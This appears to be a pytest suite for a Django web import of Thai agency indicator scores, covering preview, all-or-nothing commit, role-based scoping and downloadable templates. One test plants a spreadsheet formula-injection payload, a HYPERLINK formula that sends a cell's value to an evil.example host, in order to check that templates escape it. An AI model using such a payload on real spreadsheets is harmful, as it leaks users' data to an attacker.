"""Import through the web: upload → preview with row-by-row Thai errors → commit all or nothing;
scope by role; downloadable templates in both layouts that import back."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from indicators.models import Assessment, ImportBatch, ImportStatus, IndicatorScore
from tests.factories import AgencyFactory, make_framework
from tests.factories_scores import SEED_001_2565

YEAR = 2565


@pytest.fixture
def framework(world):
    return make_framework(YEAR)


def url(world, name, agency=None, **extra):
    return reverse(f"indicators:{name}", kwargs={"agency_id": (agency or world.agency_a).pk, "year": YEAR, **extra})


def long_file(code: str, *, bad_score: str | None = None, encoding="utf-8-sig") -> SimpleUploadedFile:
    lines = ["รหัสหน่วยงาน,ปีงบประมาณ,ตัวชี้วัดที่,ข้อ,คะแนน,ผล"]
    for number, score in SEED_001_2565.items():
        lines.append(f"{code},{YEAR},{number},,{bad_score if number == 5 and bad_score else score},")
    lines.append(f"{code},{YEAR},,O1,,มี")
    return SimpleUploadedFile("scores.csv", "\r\n".join(lines).encode(encoding), content_type="text/csv")


def upload(client, world, file, agency=None):
    response = client.post(url(world, "import_upload", agency), {"file": file})
    assert response.status_code == 302, response.content.decode()[:2000]
    return response["Location"]


def test_upload_preview_commit(world, framework):
    client = world.client_for("staff_a")
    preview_url = upload(client, world, long_file("A0001", encoding="cp874"))
    html = client.get(preview_url).content.decode()
    assert "ไฟล์ถูกต้องทุกแถว: 1 หน่วยงาน คะแนนตัวชี้วัด 10 รายการ ผลรายข้อ 1 รายการ" in html
    assert "windows-874" in html
    assert not Assessment.objects.exists()  # preview writes nothing
    batch = ImportBatch.objects.get()
    response = client.post(url(world, "import_commit", batch_id=batch.pk), follow=True)
    assert "นำเข้าคะแนนแล้ว 1 หน่วยงาน" in response.content.decode()
    assessment = Assessment.objects.get(agency=world.agency_a)
    assert assessment.overall_score == Decimal("93.17")
    batch.refresh_from_db()
    assert batch.status == ImportStatus.COMMITTED and batch.committed_at
    again = client.post(url(world, "import_commit", batch_id=batch.pk), follow=True)
    assert "ไฟล์นี้นำเข้าแล้วหรือมีข้อผิดพลาด" in again.content.decode()
    assert IndicatorScore.objects.count() == 10


def test_bad_row_preview_lists_errors_and_commit_refused(world, framework):
    client = world.client_for("director_a")
    preview_url = upload(client, world, long_file("A0001", bad_score="๘๙.๖x"))
    html = client.get(preview_url).content.decode()
    assert "พบข้อผิดพลาด 1 รายการ ไม่มีข้อมูลใดถูกนำเข้า" in html
    # indicator 5 is the 8th data line (seed order 10, 6, 1, 7, 3, 8, 4, 5 …) → spreadsheet row 9
    assert "แถวที่ 9" in html
    assert "ตัวชี้วัดที่ 5: คะแนน “๘๙.๖x” ไม่ใช่ตัวเลข" in html
    assert "ยืนยันนำเข้า" not in html
    batch = ImportBatch.objects.get()
    assert batch.status == ImportStatus.INVALID
    client.post(url(world, "import_commit", batch_id=batch.pk))
    assert not Assessment.objects.exists() and not IndicatorScore.objects.exists()


def test_staff_cannot_import_other_agency_rows(world, framework):
    client = world.client_for("staff_a")
    html = client.get(upload(client, world, long_file("B0001"))).content.decode()
    assert f"ไม่มีสิทธิ์นำเข้าคะแนนของ {world.agency_b.name}" in html
    assert not Assessment.objects.exists()


def test_supervisor_imports_whole_area_but_not_outside(world, framework):
    extra = AgencyFactory(parent=world.agency_a, code="A0002", name="โรงเรียนทดสอบในสังกัด")
    rows = ["agency_code,agency_name,fiscal_year," + ",".join(f"ตัวชี้วัดที่ {n}" for n in range(1, 11))]
    for code in ("A0001", "A0002", "S0001"):
        rows.append(f"{code},,{YEAR}," + ",".join(SEED_001_2565[n] for n in range(1, 11)))
    content = "\n".join(rows)
    client = world.client_for("supervisor")
    file = SimpleUploadedFile("area.csv", content.encode("utf-8"))
    html = client.get(upload(client, world, file, agency=world.supervising)).content.decode()
    assert "ไฟล์ถูกต้องทุกแถว: 3 หน่วยงาน คะแนนตัวชี้วัด 30 รายการ" in html
    batch = ImportBatch.objects.get()
    client.post(url(world, "import_commit", agency=world.supervising, batch_id=batch.pk))
    assert set(Assessment.objects.values_list("agency__code", flat=True)) == {"A0001", "A0002", "S0001"}
    assert Assessment.objects.get(agency=extra).grade == "A"
    # B is outside the supervisor's subtree: the whole file is refused.
    bad = SimpleUploadedFile("area.csv", (content + f"\nB0001,,{YEAR}," + ",".join(["90"] * 10)).encode())
    html = client.get(upload(client, world, bad, agency=world.supervising)).content.decode()
    assert f"แถวที่ 5: ไม่มีสิทธิ์นำเข้าคะแนนของ {world.agency_b.name}" in html.replace("</td><td>", ": ").replace("<td>", "")
    assert not Assessment.objects.filter(agency=world.agency_b).exists()


def test_upload_form_errors_in_thai(world, framework):
    client = world.client_for("staff_a")
    response = client.post(url(world, "import_upload"), {})
    assert "กรุณาเลือกไฟล์" in response.content.decode()
    response = client.post(url(world, "import_upload"), {"file": SimpleUploadedFile("scores.pdf", b"%PDF-1.4")})
    assert "รองรับเฉพาะไฟล์ .csv และ .xlsx" in response.content.decode()


def test_preview_of_another_agency_batch_is_404(world, framework):
    batch = ImportBatch.objects.create(agency=world.agency_b, fiscal_year=YEAR, filename="b.csv", content=b"")
    assert world.client_for("staff_a").get(url(world, "import_preview", batch_id=batch.pk)).status_code == 404
    assert world.client_for("superuser").get(url(world, "import_preview", batch_id=batch.pk)).status_code == 404


def _validations(sheet) -> dict[str, str]:
    """Cell ranges of the sheet's list validations → their list formula."""
    return {str(v.sqref): v.formula1 for v in sheet.data_validations.dataValidation if v.type == "list"}


@pytest.mark.parametrize("layout", ["long", "wide"])
def test_templates_download_fill_and_import_back(world, framework, layout):
    client = world.client_for("staff_a")
    xlsx = client.get(url(world, "import_template", layout=layout, fmt="xlsx"))
    assert xlsx.status_code == 200
    workbook = load_workbook(io.BytesIO(xlsx.content))
    sheet = workbook.active
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["รหัสหน่วยงาน", "ชื่อหน่วยงาน", "ปีงบประมาณ"]
    indicators = {i.number: i.name for i in framework.indicators.all()}
    items = {i.code: i.title for i in framework.items.all()}
    if layout == "wide":
        # Titles beside the codes, in the header the import reads up to the colon.
        assert header[3:13] == [f"ตัวชี้วัดที่ {n}: {indicators[n]}" for n in range(1, 11)]
        assert header[13:] == [f"{code}: {items[code]}" for code in ("O1", "O2", "O3", "O4")]
        assert _validations(sheet) == {"N2:Q2": '"มี,ไม่มี"'}
        assert sheet.max_row == 2 and sheet.cell(2, 1).value == "A0001"
        for n in range(1, 11):
            sheet.cell(2, 3 + n).value = float(SEED_001_2565[n])
        for col in range(14, 18):
            sheet.cell(2, col).value = "มี"
    else:
        assert header[3:8] == ["ตัวชี้วัดที่", "ข้อ", "ชื่อตัวชี้วัด/ข้อ", "คะแนน", "ผล"]
        assert sheet.max_row == 1 + 10 + 4
        assert [sheet.cell(r, 6).value for r in range(2, 12)] == [indicators[n] for n in range(1, 11)]
        assert {sheet.cell(r, 5).value: sheet.cell(r, 6).value for r in range(12, 16)} == items
        # The drop-down covers the four item rows' result cells, not the score rows.
        assert _validations(sheet) == {"H12:H15": '"มี,ไม่มี"'}
        for row in range(2, sheet.max_row + 1):
            if sheet.cell(row, 4).value:
                sheet.cell(row, 7).value = SEED_001_2565[int(sheet.cell(row, 4).value)]
            else:
                sheet.cell(row, 8).value = "มี" if row % 2 else "ไม่มี"
    buffer = io.BytesIO()
    workbook.save(buffer)
    preview = upload(client, world, SimpleUploadedFile(f"filled-{layout}.xlsx", buffer.getvalue()))
    batch = ImportBatch.objects.get()
    assert batch.status == ImportStatus.READY, batch.errors
    client.post(url(world, "import_commit", batch_id=batch.pk))
    assessment = Assessment.objects.get(agency=world.agency_a)
    assert assessment.overall_score == Decimal("93.17")
    assert assessment.item_results.count() == 4
    assert preview

    csv_template = client.get(url(world, "import_template", layout=layout, fmt="csv"))
    assert csv_template.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(csv_template.content.decode("utf-8-sig"))))
    assert rows[0] == header
    if layout == "long":
        assert [r[5] for r in rows[1:]] == [indicators[n] for n in range(1, 11)] + list(items.values())


def test_template_titles_are_never_formulas(world, framework):
    """A title typed as '=HYPERLINK(…)' in the catalogue is text in both templates; the file imports back."""
    item = framework.items.get(kind="O", number=1)
    item.title = '=HYPERLINK("https://evil.example/?"&A2,"ดู")'
    item.save()
    client = world.client_for("staff_a")
    sheet = load_workbook(io.BytesIO(client.get(url(world, "import_template", layout="long", fmt="xlsx")).content)).active
    cell = next(c for c in sheet["F"] if c.value == item.title)
    assert cell.data_type == "s" and cell.quotePrefix
    rows = list(
        csv.reader(io.StringIO(client.get(url(world, "import_template", layout="long", fmt="csv")).content.decode("utf-8-sig")))
    )
    assert "'" + item.title in [r[5] for r in rows]
    wide = load_workbook(io.BytesIO(client.get(url(world, "import_template", layout="wide", fmt="xlsx")).content)).active
    assert wide.cell(1, 14).value.startswith("O1: =HYPERLINK") and wide.cell(1, 14).data_type == "s"


def test_template_for_supervisor_lists_area_agencies(world, framework):
    AgencyFactory(parent=world.agency_a, code="A0009", name="โรงเรียนในสังกัดทดสอบ")
    response = world.client_for("supervisor").get(
        url(world, "import_template", agency=world.supervising, layout="wide", fmt="csv")
    )
    codes = [r[0] for r in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))][1:]
    assert sorted(codes) == ["A0001", "A0009", "S0001"]


def test_import_that_computes_the_overall_clears_the_stale_note(world, framework):
    """A note written with partial scores ("…ระบบจึงยังไม่คำนวณคะแนนรวม") spoke of the scores an
    import replaces: after a file that computes the overall, the dashboard shows it and no note."""
    stale = "ตัวชี้วัดอื่นไม่มีในเอกสาร ระบบจึงยังไม่คำนวณคะแนนรวม"
    assessment = Assessment.objects.create(agency=world.agency_a, framework=framework, note=stale)
    IndicatorScore.objects.create(assessment=assessment, indicator=framework.indicators.get(number=9), score=Decimal("92.50"))
    client = world.client_for("staff_a")
    dashboard = url(world, "dashboard")
    before = client.get(dashboard).content.decode()
    assert stale in before and '<div class="fs-3 fw-bold" id="overall">—</div>' in before

    lines = ["รหัสหน่วยงาน,ปีงบประมาณ,ตัวชี้วัดที่,ข้อ,คะแนน,ผล"]
    lines += [f"A0001,{YEAR},{n},,91.66," for n in range(1, 11)]
    upload(client, world, SimpleUploadedFile("scores.csv", "\r\n".join(lines).encode("utf-8-sig")))
    batch = ImportBatch.objects.get()
    assert batch.status == ImportStatus.READY, batch.errors
    client.post(url(world, "import_commit", batch_id=batch.pk))

    after = client.get(dashboard).content.decode()
    assert '<div class="fs-3 fw-bold" id="overall">91.66</div>' in after
    assert stale not in after and "หมายเหตุ" not in after
    assessment.refresh_from_db()
    assert assessment.overall_score == Decimal("91.66") and assessment.note == ""
